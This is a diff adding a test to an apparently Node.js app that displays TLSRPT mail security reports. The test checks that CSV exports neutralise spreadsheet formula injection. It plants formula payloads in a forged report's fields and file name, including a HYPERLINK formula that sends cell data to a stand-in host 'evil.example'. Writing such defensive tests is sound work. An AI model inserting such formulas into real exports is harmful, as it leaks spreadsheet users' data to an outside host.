@@ -2,7 +2,8 @@
 // read back, and compared with the figures on the screen and with `summarize`.
 import { test } from "node:test";
 import assert from "node:assert/strict";
-import { readFileSync } from "node:fs";
+import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { useEnvironment, SAMPLES, appWithFiles, assertPrivate, summarize, slug, number } from "./helpers.mjs";
 import { settled } from "./helpers.mjs";
@@ -92,6 +93,50 @@ test("each view's CSV and the JSON agree with the screen and with summarize", as
   assert.deepEqual(json.overview, summary.overview);
   assert.deepEqual(json["per-result"], summary["per-result"]);
   assert.deepEqual(json.findings.map((f) => f.rule), summary.findings.map((f) => f.rule));
+  assertPrivate(watch);
+  await context.close();
+});
+
+test("no exported CSV cell reads as a spreadsheet formula, and the JSON keeps the text as given", async () => {
+  // A forged report: formulas in every field a CSV carries, and in the file's name.
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
+  const report = JSON.parse(readFileSync(join(SAMPLES, "real/parsedmarc/rfc8460.json"), "utf8"));
+  report["organization-name"] = formula;
+  report["report-id"] = "@SUM(1+1)";
+  const policy = report.policies[0];
+  policy.policy["policy-domain"] = "+cmd.example";
+  policy.policy["mx-host"] = "-mx.example";
+  for (const detail of policy["failure-details"]) {
+    detail["sending-mta-ip"] = "=1+1";
+    detail["receiving-mx-hostname"] = "\t=mx.example";
+  }
+  policy["failure-details"][0]["result-type"] = "-injected";
+  const dir = mkdtempSync(join(tmpdir(), "tlsrpt-formula-"));
+  // A file name cannot hold a "/": the same formula without the address.
+  const named = '=HYPERLINK("evil.example?"&A1,"Click me")';
+  const file = join(dir, `${named}.json`);
+  writeFileSync(file, JSON.stringify(report));
+  const { page, context, watch } = await appWithFiles([file]);
+
+  const risky = /^[=+\-@\t\r]/;
+  const seen = new Set();
+  for (const tab of ["problems", "results", "timeline", "sources", "inputs"]) {
+    await page.click(`[data-testid=tab-${tab}]`);
+    await settled(page);
+    const { text } = await download(page, "export-csv");
+    // Every field is quoted, and no cell begins with a formula character.
+    for (const line of text.split("\n").filter(Boolean)) assert.ok(line.startsWith('"'), `${tab}: ${line}`);
+    for (const cell of parseCsv(text).flat()) {
+      assert.doesNotMatch(cell, risky, `${tab}: ${cell}`);
+      if (cell.startsWith("'")) seen.add(cell);
+    }
+  }
+  for (const cell of [`'${formula}`, `'${named}.json`, "'+cmd.example", "'=1+1"]) {
+    assert.ok([...seen].some((s) => s.includes(cell)), `${cell} neutralised in some CSV: ${[...seen].join(" | ")}`);
+  }
+  // The JSON export is data, not a spreadsheet: it keeps the text as given.
+  const json = JSON.parse((await download(page, "export-json")).text);
+  assert.ok(JSON.stringify(json).includes(JSON.stringify(formula).slice(1, -1)), "the organisation as given");
   assertPrivate(watch);
   await context.close();
 });
